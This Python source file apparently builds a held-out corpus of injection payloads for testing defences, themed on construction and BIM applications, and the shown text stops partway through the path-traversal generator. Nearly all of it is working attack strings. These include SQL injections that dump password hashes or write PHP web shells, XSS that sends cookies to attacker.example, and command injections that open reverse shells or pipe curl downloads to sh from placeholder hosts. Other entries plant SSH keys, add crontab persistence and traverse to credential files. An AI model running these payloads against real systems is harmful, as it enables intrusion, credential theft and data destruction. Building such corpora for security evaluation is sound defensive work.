"""Held-out attack corpus: construction & architecture notations carrying attacks.

Each value is written for a vulnerable application that places the value where
its class says: concatenated into SQL (drawing search, BoQ filters, tender bids),
into a shell line (CAD/IFC conversion, photo processing, camera ping), into a
file path (CDE document viewer, export folder), into a URL the server fetches
(supplier quote link, model link, webhooks), into a server-side template or
expression (quote e-mails, BoQ quantity formulas), into HTML without escaping
(RFI bodies, snag descriptions, drawing titles), into a log line / header /
mail header, into an LDAP filter or XPath query, or into a MongoDB query.

Class format: <context>-<technique>[+<encoding>]; "plain-" contexts are bare
payloads with no domain wrapping. Values are hand-written literals plus a few
small templates over hand-written pools. Secrets are placeholders; attacker
hosts are attacker.example, 203.0.113.0/24 and 198.51.100.0/24.

Writes attacks.jsonl next to this file. Deterministic, standard library only.
"""
import json
import random
from pathlib import Path

SEED = 4802
PREFIX = "ha48"

# ---------------------------------------------------------------------------
# SQL injection (value concatenated into SQL)
# ---------------------------------------------------------------------------
SQLI = [
    ("drawing-search-boolean", "A-101' OR 'rev'='rev"),
    ("drawing-search-union", "S-204/B' UNION SELECT username, password_hash, NULL, NULL FROM users-- -"),
    ("drawing-search-union-pg", "A-101' UNION ALL SELECT NULL, string_agg(usename||':'||passwd, ','), NULL FROM pg_shadow--"),
    ("boq-item-error-extractvalue", "03.30.010' AND extractvalue(1, concat(0x7e, (SELECT group_concat(table_name) FROM information_schema.tables WHERE table_schema=database())))-- -"),
    ("boq-qty-time-sleep", "12.5 AND (SELECT 7 FROM (SELECT SLEEP(6))t)"),
    ("boq-rate-stacked-pgsleep", "142; SELECT pg_sleep(7);--"),
    ("register-sort-orderby-case", "rev,(SELECT CASE WHEN (SELECT substr(passwd,1,1) FROM pg_shadow LIMIT 1)='m' THEN 1 ELSE 1/(SELECT 0) END)"),
    ("register-sort-orderby-if-sleep", "doc_no, IF((SELECT COUNT(*) FROM users WHERE role='admin')>0, SLEEP(5), 0)"),
    ("tender-id-stacked-xpcmdshell", "T-0419'; EXEC master..xp_cmdshell 'powershell -c iwr http://203.0.113.14/p.ps1 | iex';--"),
    ("tender-id-error-convert", "T-0419' AND 1=CONVERT(int,(SELECT TOP 1 CAST(bid_amount AS varchar) FROM tender_bids WHERE tender_id='T-0419' ORDER BY bid_amount))--"),
    ("tender-bid-stacked-update", "Northgate Civils'; UPDATE tender_bids SET bid_amount = bid_amount * 1.25 WHERE bidder <> 'Northgate Civils';--"),
    ("rfi-search-like-union", "concrete%' UNION SELECT id, email, api_token, 1 FROM users WHERE '%'='"),
    ("spec-section-blind-substring", "03 30 00' AND SUBSTRING((SELECT password FROM users WHERE login='admin'),1,1)='$'-- "),
    ("spec-section-union-sqlite", "03 30 00' UNION SELECT name, sql FROM sqlite_master-- "),
    ("snag-insert-subselect", "Door D2.07 binds', (SELECT password_hash FROM users WHERE id=1), 'open')-- "),
    ("snag-status-update-assign", "closed', assigned_to=(SELECT email FROM users WHERE is_admin=1 LIMIT 1)-- "),
    ("diary-weather-union-oracle", "rain' UNION SELECT banner, NULL FROM v$version--"),
    ("diary-date-oob-utlhttp", "2024-05-14' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("supplier-name-oob-xpdirtree", "Baltic Timber'; EXEC master..xp_dirtree '\\\\ix7.attacker.example\\q';--"),
    ("supplier-name-oob-loadfile", "Pete''s Plant' AND LOAD_FILE(CONCAT('\\\\\\\\', (SELECT HEX(password) FROM users LIMIT 1), '.d.attacker.example\\\\a'))-- -"),
    ("drawing-search-stacked-copy-program", "A-101'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.77/x | sh';--"),
    ("export-title-union-outfile", "Level 03' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL INTO OUTFILE '/var/www/html/uploads/rev.php'-- -"),
    ("project-id-boolean-numeric", "2231 OR 1=1"),
    ("project-id-union-numeric", "2231 AND 1=2 UNION SELECT 1, table_name, column_name, 4 FROM information_schema.columns"),
    ("drawing-search-union+comment", "A-101'/**/UNION/**/SELECT/**/login,password/**/FROM/**/users#"),
    ("drawing-search-union+case", "S-204' uNiOn aLl sElEcT nUlL, CoNcAt(login, 0x3a, pwd) fRoM staff-- -"),
    ("drawing-search-union+url", "A-101%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20"),
    ("drawing-search-boolean+url2", "S-204%2527%2520OR%25201%253D1--%2520"),
    ("boq-class-union+versioned-comment", "C30/37' /*!50000UNION*/ /*!50000SELECT*/ user(), @@version-- -"),
    ("json-docno-boolean-offset", "{\"doc_no\": \"A-101' OR 1=1 LIMIT 1 OFFSET 3-- \", \"rev\": \"C\"}"),
    ("register-filter-having-error", "A-1' GROUP BY doc_no HAVING 1=1--"),
    ("profile-name-second-order", "site_admin'-- "),
    ("revision-filter-time-sleep", "rev C' AND SLEEP(5) AND 'a'='a"),
    ("revision-filter-error-cast-pg", "B' AND 1=CAST((SELECT current_setting('data_directory')) AS int)-- "),
    ("drawing-search-heavy-query-sqlite", "A-101' AND (SELECT CASE WHEN substr((SELECT password FROM users LIMIT 1),1,1)>'m' THEN randomblob(300000000) ELSE 1 END)-- "),
    ("project-id-stacked-waitfor", "1; IF (SELECT COUNT(*) FROM sysobjects WHERE name='payments')>0 WAITFOR DELAY '0:0:6'--"),
    ("drawing-search-time-dbmspipe", "A-101' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--"),
    ("snag-ids-in-list-boolean", "12,13) OR (1=1"),
    ("register-offset-stacked-delete", "0; DELETE FROM audit_log WHERE actor='contractor';--"),
    ("drawing-search-backslash-escape", "A-101\\' OR 1=1-- -"),
    ("cn-search-multibyte-escape+url", "结施-07%bf%27 OR 1=1-- -"),
    ("tender-id-stacked-hex-exec", "T-0419'; DECLARE @q varchar(200)=0x73656c65637420404076657273696f6e; EXEC(@q);--"),
    ("login-name-time-char", "A-101' AND login=CHAR(97,100,109,105,110) AND SLEEP(4)-- -"),
    ("crew-signup-stacked-dollar-quote", "x'; INSERT INTO users(login, role) VALUES ($$ghost$$, $$admin$$);--"),
    ("boq-qty-update-extra-column", "86.4, unit_rate = 0.01"),
    ("claim-amount-update-all-rows", "25000 WHERE 1=1-- "),
    ("supplier-name-stacked-reconfigure", "Baltic Timber'; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--"),
    ("rfi-subject-attach-sqlite", "x'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t(x text); INSERT INTO s.t VALUES('<?php passthru($_GET[0]); ?>');--"),
    ("drawing-search-error-updatexml", "S-205' AND updatexml(null, concat(0x3a, (SELECT session_token FROM sessions ORDER BY id DESC LIMIT 1)), null)-- -"),
    ("drawing-search-error-tonumber", "A' AND 1=TO_NUMBER((SELECT user FROM dual))--"),
    ("tender-note-oob-dblink", "x'; SELECT dblink_connect('host=203.0.113.9 user='||current_user||' dbname=x');--"),
    ("register-sort-stacked-waitfor", "title; WAITFOR DELAY '00:00:05'--"),
    ("rfi-body-union-multiline", "Cracks in slab at grid C/4, photos to follow\n' UNION SELECT email, reset_token FROM password_resets-- "),
    ("drawing-search-concat-blind", "A-10' || (SELECT CASE WHEN (SELECT count(*) FROM users)>5 THEN '1' ELSE '' END) || '"),
    ("revision-filter-union-typed-null", "P03' UNION SELECT NULL::text, version(), NULL::text-- "),
    ("crew-signup-insert-duplicate-key", "x', 'y', 'viewer') ON DUPLICATE KEY UPDATE role='admin'-- -"),
    ("drawing-search-like-blind", "A-1%' AND (SELECT password FROM users WHERE login='admin') LIKE 'a%"),
    ("diary-date-boolean", "2024-05-14' OR date_logged > '1900-01-01"),
    ("drawing-search-bitwise-blind", "A-101' AND (ASCII(MID(user(),1,1))&64)=64-- -"),
    ("project-id-union-loadfile-hex", "2231 UNION SELECT 1,2,LOAD_FILE(0x2f6574632f706173737764),4"),
    ("rfi-subject-stacked-grant", "RFI-045'; GRANT ALL ON ALL TABLES IN SCHEMA public TO public;--"),
    ("tender-id-stacked-shutdown", "T-0420'; SHUTDOWN WITH NOWAIT;--"),
    ("spec-section-union-readfile-pg", "05 12 00' UNION SELECT pg_read_file('/etc/passwd'), NULL-- "),
    ("report-columns-subquery", "doc_no, (SELECT group_concat(login, ':', password) FROM users) AS rev"),
    ("plain-tautology", "' OR 1=1-- "),
    ("plain-union-version", "1 UNION SELECT null, version()"),
    ("plain-stacked-waitfor", "'; WAITFOR DELAY '0:0:5'--"),
    ("plain-comment-truncation", "admin'-- "),
    ("plain-orderby-probe", "1' ORDER BY 7-- -"),
    ("plain-paren-tautology", "') OR ('a'='a"),
]

SQLI_PREFIXES = [("drawing-search", "A-101"), ("drawing-search", "S-204/B"), ("drawing-search", "M-301 rev D"),
                 ("boq-item", "03.30.010"), ("boq-class", "C30/37"), ("tender-id", "T-0419"), ("rfi-search", "RFI-045"),
                 ("snag-ref", "PL-0412"), ("co-ref", "CO-014"), ("permit-ref", "HW-0412")]
SQLI_TAILS = [
    ("boolean", "' OR 'a'='a"),
    ("union", "' UNION SELECT login, password FROM users-- -"),
    ("time-sleep", "' AND SLEEP(5)-- -"),
    ("time-pgsleep", "'; SELECT pg_sleep(6)--"),
    ("error-convert", "' AND 1=CONVERT(int, @@version)--"),
    ("stacked-drop", "'; DROP TABLE drawings;--"),
    ("boolean-blind", "' AND (SELECT COUNT(*) FROM users) > 0-- "),
]


def gen_sqli(rng):
    field, pre = rng.choice(SQLI_PREFIXES)
    tech, tail = rng.choice(SQLI_TAILS)
    return (f"{field}-{tech}", pre + tail)


# ---------------------------------------------------------------------------
# Cross-site scripting (value rendered into HTML without escaping)
# ---------------------------------------------------------------------------
XSS = [
    ("rfi-body-script-cookie", "Please confirm slab edge.<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("snag-desc-img-onerror", "Door D2.07 binds <img src=x onerror=\"new Image().src='//attacker.example/s?c='+encodeURIComponent(document.cookie)\">"),
    ("drawing-title-svg-onload", "Level 03 – Drop panel <svg onload=alert(document.domain)>"),
    ("drawing-title-attr-break-dq", "A-101 rev C\" onmouseover=\"alert(1)\" x=\""),
    ("drawing-title-attr-break-sq", "S-204/B' autofocus onfocus='fetch(\"//attacker.example/\"+localStorage.token)"),
    ("supplier-website-href-javascript", "javascript:fetch('//attacker.example/k',{method:'POST',body:document.cookie})"),
    ("supplier-website-href-javascript+case", "  JaVaScRiPt:alert(document.domain)"),
    ("rfi-body-anchor-javascript+html-entity", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">RFI-045 answer</a>"),
    ("drawing-no-js-string-break", "A-101';alert(document.cookie);//"),
    ("drawing-no-script-block-break", "S-204</script><script>alert(origin)</script>"),
    ("diary-remarks-textarea-break", "Remarks end</textarea><img src=1 onerror=alert(1)>"),
    ("project-name-title-break", "Harbour View</title><script>document.location='//attacker.example/?'+document.cookie</script>"),
    ("spec-note-details-ontoggle+base64", "<details open ontoggle=\"eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))\">Spec 03 30 00</details>"),
    ("rfi-body-iframe-srcdoc", "See markup <iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
    ("rfi-markdown-link-javascript", "[Detail 5/A-501](javascript:alert(document.cookie))"),
    ("snag-markdown-image-attr-break", "![photo #5521](x\" onerror=\"alert(1))"),
    ("cad-upload-svg-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><rect width=\"100\" height=\"100\"/></svg>"),
    ("rfi-body-object-data-uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("diary-note-base-href-hijack", "Weather ok <base href=\"https://attacker.example/\">"),
    ("rfi-body-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">RFI-045 moved"),
    ("co-desc-button-formaction", "<form><button formaction=\"javascript:alert(document.cookie)\">Approve CO-014</button></form>"),
    ("snag-desc-input-autofocus", "Socket not level <input autofocus onfocus=alert(document.domain)>"),
    ("punch-note-video-source-onerror", "<video><source onerror=\"alert(1)\"></video> Lift 2 stops 15 mm low"),
    ("snag-desc-angular-template", "Tile lippage {{constructor.constructor('alert(document.cookie)')()}}"),
    ("diary-note-style-import", "<style>@import url(//attacker.example/x.css);</style>Pour complete 15:40"),
    ("drawing-title-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("permit-email-body-onload", "<body onload=alert(1)>Hot work permit HW-0412 approved"),
    ("json-api-title+unicode-escape", "{\"title\":\"\\u003cimg src=x onerror=alert(document.domain)\\u003e\"}"),
    ("diary-search-reflected-script+url", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("register-search-reflected-svg+url2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("snag-desc-nested-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("supplier-website-href+whitespace", "java\tscript:alert(document.domain)"),
    ("supplier-website-href-data-uri", "data:text/html,<script>alert(opener.document.domain)</script>"),
    ("drawing-title-custom-element-pointer", "<x-rev onpointerenter=alert(1) style=display:block;width:100%;height:100%>rev C</x-rev>"),
    ("diary-note-contenteditable-focusin", "<div contenteditable autofocus onfocusin=alert(document.domain)>Rain 18 mm</div>"),
    ("snag-desc-onerror+html-entity", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">"),
    ("drawing-title-js-template-literal", "${alert(document.domain)}"),
    ("viewer-hash-dom-innerhtml", "#A-101<img src=x onerror=alert(1)>"),
    ("drawing-title-attr-tag-break", "A-101 rev C\"><svg/onload=alert(document.domain)>"),
    ("rfi-body-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("snag-desc-obfuscated-bracket-call", "<img src=x:gif onerror=window['al'+'ert'](document.domain)>"),
    ("drawing-title-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Open A-101</text></a></svg>"),
    ("crew-message-dynamic-import", "ok boss <img src=x onerror=import('//attacker.example/m.js')>"),
    ("crew-message-external-script", "see attached <script src=//attacker.example/x.js></script>"),
    ("rfi-body-iframe-javascript", "<iframe src=\"javascript:parent.alert(document.domain)\"></iframe>"),
    ("diary-note-marquee-onstart", "<marquee onstart=alert(1)>Pour delayed</marquee>"),
    ("boq-desc-select-autofocus", "Select fill Type 1 <select autofocus onfocus=alert(document.cookie)></select>"),
    ("snag-desc-audio-onerror", "<audio src onerror=alert(1)>"),
    ("export-callback-jsonp", "alert(document.domain)//"),
    ("drawing-alt-unquoted-attr", "A-101 onmouseover=alert(document.cookie)"),
    ("spec-note-style-break", "</style><script>alert(1)</script>"),
    ("boq-qty-js-numeric", "12.5-alert(document.domain)-"),
    ("drawing-no-js-string-backslash", "\\\";alert(1);//"),
    ("snag-desc-template-call-hex", "<svg onload=setTimeout`alert\\x28document.domain\\x29`>"),
    ("drawing-title-location-name", "<img src=x onerror=location=name>"),
    ("rfi-body-anchor-partial+html-entity", "<a href=\"javas&#99;ript:alert(1)\">S-204 rev C</a>"),
    ("snag-desc-nfkc+fullwidth", "＜img src=x onerror=alert(1)＞"),
    ("snag-desc-img-onerror+case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("drawing-title-svg-script+html-entity", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("rfi-body-iframe-overlay", "<iframe src=//attacker.example/phish.html width=100% height=900 frameborder=0></iframe>"),
    ("csv-preview-multiline-script", "Item;Qty;Unit\n03.30.010;86.4;m³\n<script>alert(document.domain)</script>;1;nr"),
    ("co-desc-svg-foreignobject", "<svg><foreignObject><iframe src=\"javascript:alert(document.domain)\"></iframe></foreignObject></svg>"),
    ("crew-message-picture-onerror", "Pour done 👍<picture><img src=/nope onerror=alert(document.cookie)></picture>"),
    ("rfi-answer-link-onclick", "See <a href=# onclick=\"fetch('//attacker.example/t?'+document.cookie);return false\">S-204 rev C</a>"),
    ("plain-script-alert", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg/onload=alert(1)>"),
    ("plain-attr-break", "\"><script>alert(document.domain)</script>"),
    ("plain-body-onload", "<body onload=alert(document.cookie)>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-iframe-src", "<iframe src=javascript:alert(1)>"),
]

XSS_PREFIXES = [("snag-desc", "Snag #214 – "), ("rfi-body", "RFI-045: "), ("drawing-title", "A-101 rev C "),
                ("diary-note", "Diary 14/05: "), ("co-desc", "CO-014 "), ("permit-comment", "Permit HW-0412 "),
                ("diary-note", "Crane down (wind) "), ("spec-note", "Spec 03 30 00 ")]
XSS_PAYLOADS = [
    ("img-onerror", "<img src=1 onerror=alert(document.domain)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/?'+document.cookie)>"),
    ("script", "<script>alert(document.cookie)</script>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-onfocus", "<input onfocus=alert(1) autofocus>"),
]


def gen_xss(rng):
    tech, p = rng.choice(XSS_PAYLOADS)
    field, pre = rng.choice(XSS_PREFIXES)
    return (f"{field}-{tech}", pre + p)


# ---------------------------------------------------------------------------
# Command injection (value placed on a shell command line)
# ---------------------------------------------------------------------------
CMDI = [
    ("ifc-convert-filename-semicolon-curl", "A-101_C.dwg; curl -s http://203.0.113.21/s.sh | sh"),
    ("pdf-export-filename-and-id", "S-204_B.pdf && id"),
    ("ifc-convert-filename-subshell-wget", "$(wget -qO- http://attacker.example/k|sh).ifc"),
    ("dwg-convert-filename-backtick-nc", "`nc 203.0.113.5 4444 -e /bin/sh`.dwg"),
    ("nwd-export-filename-pipe-shadow", "2231_FED_L03.nwd | cat /etc/shadow"),
    ("ifc-convert-filename-newline-revshell", "PRJ-STR-0001.ifc\nbash -i >& /dev/tcp/198.51.100.23/9001 0>&1"),
    ("dwg-convert-filename-ifs", "A-101;cat${IFS}/etc/passwd"),
    ("pdf-export-filename-brace-expansion", "x;{curl,-s,http://attacker.example/b}|bash"),
    ("dwg-convert-filename-or-python", "nonexistent.dwg || python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.40\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("plot-batch-filename-win-type", "A-101.dwg & type C:\\Windows\\win.ini"),
    ("plot-batch-filename-win-powershell", "S-204.pdf | powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a.ps1')\""),
    ("plot-batch-filename-win-certutil", "2231.dst & certutil -urlcache -split -f http://203.0.113.8/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe"),
    ("archive-name-tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("archive-name-zip-unzip-command", "x.zip -T -TT 'curl http://attacker.example/z|sh #'"),
    ("supplier-logo-curl-output-arg", "-o /var/www/html/sh.php http://attacker.example/sh.txt"),
    ("camera-host-ssh-proxycommand", "-oProxyCommand=curl${IFS}attacker.example/p|sh site-camera-01"),
    ("camera-host-ping-semicolon", "192.168.10.44; id"),
    ("camera-host-ping-pipe", "cam-north.site.local|whoami"),
    ("camera-host-ping-dns-exfil", "$(id|base64).attacker.example"),
    ("camera-host-ping-newline+url", "10.0.4.12%0acat%20/etc/passwd"),
    ("model-repo-url-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("photo-convert-pipe-filename", "|id > /tmp/im.txt"),
    ("bulk-rename-sed-exec-flag", "s/rev C/rev D/;1e id"),
    ("file-search-find-exec", "-name *.ifc -exec sh -c id ;"),
    ("report-filter-awk-system", "$3 > 100 {system(\"id\")}"),
    ("ifc-convert-filename-env-exfil", "A-101.dwg;curl http://attacker.example/?k=$AWS_SECRET_ACCESS_KEY"),
    ("plot-batch-filename-win-caret", "A-101.dwg & w^h^o^a^m^i"),
    ("dwg-convert-filename-quote-obfuscation", "x;w'h'o'a'm'i"),
    ("dwg-convert-filename-backslash-obfuscation", "x;c\\at /et\\c/pas\\swd"),
    ("dwg-convert-filename-path-substring", "x;cat${IFS}${PATH:0:1}etc${PATH:0:1}passwd"),
    ("dwg-convert-filename-printf-hex", "x;$(printf '\\x69\\x64')"),
    ("pdf-export-filename-echo+base64", "S-204.pdf;echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo|base64 -d|sh"),
    ("permit-email-sendmail-args", "rfi@site.example -X /var/www/html/x.php"),
    ("pdf-export-filename-authorized-keys", "A-101.pdf; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyFakeKeyFakeKeyFakeKeyFakeKeyFake x@attacker.example' >> ~/.ssh/authorized_keys"),
    ("backup-label-crontab", "x; (crontab -l; echo '* * * * * curl -s attacker.example/c|sh') | crontab -"),
    ("dwg-convert-filename-sleep", "A-101.dwg; sleep 9 #"),
    ("plot-batch-filename-win-ping-delay", "A-101.dwg & ping -n 11 127.0.0.1"),
    ("ifc-convert-filename-nslookup-oob", "x;nslookup $(whoami).cmd.attacker.example"),
    ("dwg-convert-filename-subshell-sleep", "A-101.dwg$(sleep${IFS}7)"),
    ("pdf-export-filename-python-os", "S-204.pdf; python3 -c \"import os;os.system('id')\""),
    ("ifc-convert-filename-dropper", "x.ifc && wget http://198.51.100.12/bot -O /tmp/.b && chmod +x /tmp/.b && /tmp/.b"),
    ("camera-host-busybox-nc", "10.0.4.12|busybox nc 203.0.113.66 5555 -e sh"),
    ("dwg-convert-filename-devtcp-loop", "x;exec 5<>/dev/tcp/203.0.113.6/80;cat <&5 | while read l; do $l 2>&5 >&5; done"),
    ("ifc-convert-filename-php-fsockopen", "x;php -r '$s=fsockopen(\"203.0.113.70\",8080);exec(\"sh <&3 >&3 2>&3\");'"),
    ("nwd-export-filename-mkfifo", "x; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.71 4242 >/tmp/f"),
    ("dayworks-export-name-curl-upload", "Dayworks wk20; curl -T /etc/passwd http://attacker.example/up"),
    ("xref-sync-path-scp-exfil", "xref.dwg && scp /etc/shadow x@203.0.113.12:/tmp/"),
    ("drawing-no-single-quoted-break", "S-204'; id; echo '"),
    ("drawing-title-double-quoted-break", "A-101 rev C\"; cat /proc/self/environ; echo \""),
    ("dwg-convert-filename-glob-obfuscation", "x;/???/??t /???/p??s??"),
    ("plot-batch-filename-win-comspec", "x | %COMSPEC% /c dir C:\\"),
    ("plot-batch-filename-win-powershell-enc+base64", "S-204.pdf | powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOAAvAGEAfABpAGUAeAA="),
    ("pdf-export-filename-semicolon+url", "A-101.dwg%3B%20id"),
    ("pdf-export-filename-and+url", "S-204_B.pdf%26%26%20whoami"),
    ("drawing-title-backtick-uname", "A-101 rev `uname -a`"),
    ("ifc-convert-filename-multiline-comment", "S-204\ncurl attacker.example/n -o /tmp/n\n#"),
    ("plot-batch-ps-single-quote-break", "A-101.dwg'; Invoke-WebRequest http://203.0.113.8/d -OutFile $env:TEMP\\d.exe; '"),
    ("photo-exif-note-subshell", "Site photo 14/05 grid C/4 $(curl -s attacker.example/e|sh)"),
    ("diary-export-date-semicolon", "2024-05-14;id>/tmp/d"),
    ("pdf-export-filename-redirect-read", "S-204.pdf; cat</etc/passwd"),
    ("camera-host-ping-ipv6-semicolon", "::1; uname -a"),
    ("pointcloud-decimate-arg-injection", "5mm --output=/var/www/html/p.php"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`id`"),
    ("plain-and-uname", "&& uname -a"),
    ("plain-win-ampersand", "& whoami"),
]

CMDI_FILES = [("dwg-convert-filename", "A-101_C.dwg"), ("pdf-export-filename", "S-204_B.pdf"),
              ("ifc-convert-filename", "2231-ARC-L02.ifc"), ("ifc-convert-filename", "PRJ-STR-0001.ifc"),
              ("photo-convert-filename", "IMG_4471.HEIC"), ("archive-name", "TX-0419.zip"),
              ("nwd-export-filename", "2231_FED_L03.nwd"), ("csv-import-filename", "Door_Schedule_L01-L05.csv")]
CMDI_TAILS = [
    ("semicolon-id", "; id"),
    ("pipe-passwd", " | cat /etc/passwd"),
    ("subshell-curl", "$(curl -s http://attacker.example/r|sh)"),
    ("and-wget", " && wget -q http://198.51.100.4/s -O /tmp/s"),
    ("backtick-uname", "`uname -a`"),
    ("newline-id", "\nid"),
]


def gen_cmdi(rng):
    tech, t = rng.choice(CMDI_TAILS)
    field, f = rng.choice(CMDI_FILES)
    return (f"{field}-{tech}", f + t)


# ---------------------------------------------------------------------------
# Path traversal (value used as a path under the CDE / export root)
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("cde-doc-path-dotdot", "../../../../etc/passwd"),
    ("cde-doc-path-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("cad-folder-path-dotdot-nested", "03_CAD/Arch/../../../../../etc/shadow"),
    ("cde-doc-path-strip-once-bypass", "....//....//....//etc/passwd"),
    ("cde-doc-path-dotdot+url", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("export-download-path-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron"),
    ("export-download-path-dotdot+url2", "..%252f..%252f..%252fetc%252fhosts"),
    ("cde-doc-path-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("cde-doc-path-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afboot.ini"),
    ("cde-doc-path-absolute", "/etc/passwd"),
    ("cde-doc-path-absolute-windows", "C:\\inetpub\\wwwroot\\web.config"),
    ("viewer-src-file-scheme", "file:///proc/self/environ"),
    ("cde-doc-path-null-byte+url", "../../../../etc/passwd%00.pdf"),
    ("zip-entry-name-slip", "../../../../var/www/html/uploads/shell.php"),
    ("cad-folder-path-windows-ssh-key", "..\\..\\..\\Users\\Administrator\\.ssh\\id_rsa"),
    ("cde-doc-path-proc-cwd", "/proc/self/cwd/config/settings.py"),
    ("cde-doc-path-bash-history", "../../../../../../root/.bash_history"),
    ("export-download-path-dotenv", "../../app/.env"),
    ("cde-doc-path-aws-credentials", "../../../../home/bim/.aws/credentials"),
    ("cde-doc-path-semicolon-param", "..;/..;/WEB-INF/web.xml"),
    ("export-download-path-partial+url", "%2e%2e/%2e%2e/%2e%2e/var/log/nginx/access.log"),
    ("cde-doc-path-backslash+url", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("xref-path-unc-ntlm", "\\\\203.0.113.55\\share\\A-101.dwg"),
    ("cad-folder-path-strip-once-backslash", "....\\\\....\\\\....\\\\windows\\win.ini"),
    ("cde-doc-path-prefix-check-bypass", "/projects/2231/../../../etc/passwd"),
    ("cad-folder-path-windows-sam", "P:\\2231_Harbour_View\\..\\..\\Windows\\System32\\config\\SAM"),
    ("cde-doc-path-iis-unicode+unicode-escape", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("cde-doc-path-nfkc-slash+fullwidth", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("cde-doc-path-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("export-download-path-ifc-dir", "exports/ifc/../../../../../../proc/self/environ"),
    ("viewer-src-php-filter", "php://filter/convert.base64-encode/resource=../config/db.php"),
    ("cde-doc-path-ssh-key", "/root/.ssh/id_ed25519"),
    ("cde-doc-path-nginx-conf", "../../../../../etc/nginx/nginx.conf"),
    ("upload-filename-write-traversal", "../../../../var/www/html/exports/x.php"),
    ("upload-filename-windows-aspx", "..\\..\\..\\inetpub\\wwwroot\\aspnet_client\\x.aspx"),
    ("cde-doc-path-after-file", "docs/A-101.pdf/../../../../../etc/group"),
    ("cde-doc-path-double-slash", "..//..//..//..//etc//passwd"),
    ("cad-folder-path-rooted-backslash", "\\..\\..\\..\\..\\..\\windows\\system.ini"),
    ("cde-doc-path-half-encoded+url", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("bcf-snapshot-path-dotdot", "snapshots/../../../../../../etc/ssl/private/server.key"),
    ("photo-path-tablet-traversal", "/storage/emulated/0/DCIM/SiteDiary/../../../../../data/system/users/0.xml"),
    ("template-name-traversal", "../../../../../../usr/share/nginx/html/../../../../etc/passwd"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-backslash-winini", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-encoded-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("plain-proc-environ", "/proc/self/environ"),
]

TRAV_BASES = ["03_CAD/Arch/", "exports/ifc/", "PUBLISHED/Structural/", "WIP/MEP/", "transmittals/TX-0419/", ""]
TRAV_TARGETS = [("passwd", "etc/passwd"), ("shadow", "etc/shadow"), ("environ", "proc/self/environ"),
                ("hosts", "etc/hosts"), ("dotenv", "srv/app/.env")]
TRAV_WIN_TARGETS = [("winini", "Windows\\win.ini"), ("hosts", "Windows\\System32\\drivers\\etc\\hosts"),
                    ("webconfig", "inetpub\\wwwroot\\web.config")]


def gen_traversal(rng):
    base = rng.choice(TRAV_BASES)
    depth = rng.randint(4, 9)
    if rng.random() < 0.3:
        name, target = rng.choice(TRAV_WIN_TARGETS)
        return (f"cde-doc-path-backslash-{name}", base.replace("/", "\\") + "..\\" * depth + target)
    name, target = rng.choice(TRAV_TARGETS)
